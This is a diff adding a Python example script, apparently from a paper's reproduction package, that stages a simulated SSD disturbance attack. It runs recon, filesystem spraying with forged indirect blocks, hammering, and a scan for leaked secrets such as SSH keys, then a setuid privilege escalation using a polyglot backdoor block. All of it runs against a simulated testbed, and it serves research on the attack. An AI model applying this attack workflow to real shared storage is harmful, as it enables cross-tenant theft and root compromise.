@@ -1,0 +1,134 @@
+#!/usr/bin/env python3
+"""The §4 cloud case study, stage by stage (Figures 2(b) and 3).
+
+Walks the full exploit with commentary: recon, spraying the victim
+filesystem with forged indirect blocks, hammering from the helper attacker
+VM, scanning for redirected files, and classifying what leaked — then
+demonstrates the §3.2 privilege-escalation variant against a setuid binary.
+
+Run:  python examples/cloud_info_leak.py
+"""
+
+from repro import build_cloud_testbed
+from repro.attack import (
+    DeviceProfile,
+    double_sided_plan,
+    find_cross_partition_triples,
+    scan_sprayed_files,
+    spray_attacker_partition,
+    spray_victim_filesystem,
+)
+from repro.attack.exfiltrate import make_leak_record, simulate_setuid_execution
+from repro.attack.polyglot import craft_polyglot_block
+from repro.attack.spray import unspray_victim_filesystem
+from repro.ext4 import ROOT
+from repro.scenarios import ATTACKER_PROCESS
+from repro.units import format_rate
+
+
+def main() -> None:
+    print("=== Cloud case study: privileged info leak over a shared SSD ===\n")
+    testbed = build_cloud_testbed(seed=7)
+    fs = testbed.victim_fs
+
+    # ------------------------------------------------------------------
+    print("[stage 0] The victim's secrets, protected by permissions:")
+    for name, path in testbed.secret_paths.items():
+        stat = fs.stat(path, ROOT)
+        print("  %-12s %-20s mode=%o uid=%d" % (name, path, stat.mode & 0o7777, stat.uid))
+    try:
+        fs.read(testbed.secret_paths["ssh-key"], ATTACKER_PROCESS)
+    except Exception as error:
+        print("  attacker direct read -> %s\n" % type(error).__name__)
+
+    # ------------------------------------------------------------------
+    print("[stage 1] Offline recon from device-model knowledge:")
+    profile = DeviceProfile.from_device(testbed.controller)
+    triples = find_cross_partition_triples(
+        profile, testbed.attacker_ns, testbed.victim_ns
+    )
+    print("  %d cross-partition triples; e.g. bank %d rows %d/%d/%d\n"
+          % (len(triples), triples[0].bank, triples[0].victim_row - 1,
+             triples[0].victim_row, triples[0].victim_row + 1))
+
+    # ------------------------------------------------------------------
+    print("[stage 2] Spraying:")
+    targets = list(range(fs.sb.data_start, fs.sb.total_blocks))
+    records = spray_victim_filesystem(
+        fs, ATTACKER_PROCESS, count=64, target_fs_blocks=targets
+    )
+    print("  victim fs: %d files, each a 12-block hole + indirect block + "
+          "one malicious data block" % len(records))
+    spray_attacker_partition(
+        testbed.attacker_vm.blockdev,
+        lbas=range(testbed.attacker_ns.num_lbas),
+        target_fs_blocks=targets,
+    )
+    print("  attacker partition: %d raw malicious blocks\n"
+          % testbed.attacker_ns.num_lbas)
+
+    # ------------------------------------------------------------------
+    print("[stage 3] Hammering (helper VM, trimmed-LBA fast path):")
+    plans = [double_sided_plan(t, testbed.attacker_ns) for t in triples]
+    for plan in plans:
+        for lba in plan.lbas:
+            testbed.attacker_vm.blockdev.trim_block(lba)
+    rate = testbed.attacker_vm.achieved_io_rate(mapped=False)
+    print("  I/O rate %s, x%d amplification -> %s activations/s"
+          % (format_rate(rate), testbed.controller.timing.hammer_amplification,
+             format_rate(rate * testbed.controller.timing.hammer_amplification)))
+
+    leaks = []
+    for cycle in range(10):
+        flips_before = testbed.flips_observed()
+        for plan in plans:
+            plan.execute(testbed.attacker_vm, total_ios=int(rate * 60) // len(plans))
+        hits = scan_sprayed_files(fs, ATTACKER_PROCESS, records)
+        print("  cycle %d: %d new flips, %d scan hits"
+              % (cycle, testbed.flips_observed() - flips_before, len(hits)))
+        for hit in hits:
+            if hit.usable:
+                leaks.append(make_leak_record(hit.record.path, hit.leaked))
+        if leaks:
+            break
+        unspray_victim_filesystem(fs, ATTACKER_PROCESS, records)
+        records = spray_victim_filesystem(
+            fs, ATTACKER_PROCESS, count=64, target_fs_blocks=targets,
+            prefix="/.respray-%d" % cycle,
+        )
+    print()
+
+    # ------------------------------------------------------------------
+    print("[stage 4] Exfiltration:")
+    if leaks:
+        for leak in leaks:
+            print("  %s leaked %d bytes (%s): %r..."
+                  % (leak.source_path, len(leak.data), leak.category, leak.data[:40]))
+    else:
+        print("  no usable leak this run (probabilistic; see §4.3)")
+    print()
+
+    # ------------------------------------------------------------------
+    print("[stage 5] Privilege escalation variant (§3.2, polyglot block):")
+    sudo = testbed.secret_paths["setuid-sudo"]
+    polyglot = craft_polyglot_block("install-root-backdoor", fs.block_bytes)
+    fs.create("/holder", ATTACKER_PROCESS)
+    fs.write("/holder", polyglot, ATTACKER_PROCESS)
+    holder_block = fs.file_layout("/holder", ATTACKER_PROCESS).data_blocks[0]
+    sudo_block = fs.file_layout(sudo, ROOT).data_blocks[0]
+    # Apply the write-something-somewhere redirect a lucky flip produces:
+    testbed.ftl.l2p.update(
+        testbed.victim_fs_block_to_device_lba(sudo_block),
+        testbed.ftl.l2p.lookup(
+            testbed.victim_fs_block_to_device_lba(holder_block)
+        ),
+    )
+    uid, command = simulate_setuid_execution(fs, sudo, ATTACKER_PROCESS)
+    print("  victim runs %s -> effective uid %d, executed: %r"
+          % (sudo, uid, command))
+    if uid == 0 and command:
+        print("  ROOT: the setuid bit ran the attacker's polyglot payload.")
+
+
+if __name__ == "__main__":
+    main()
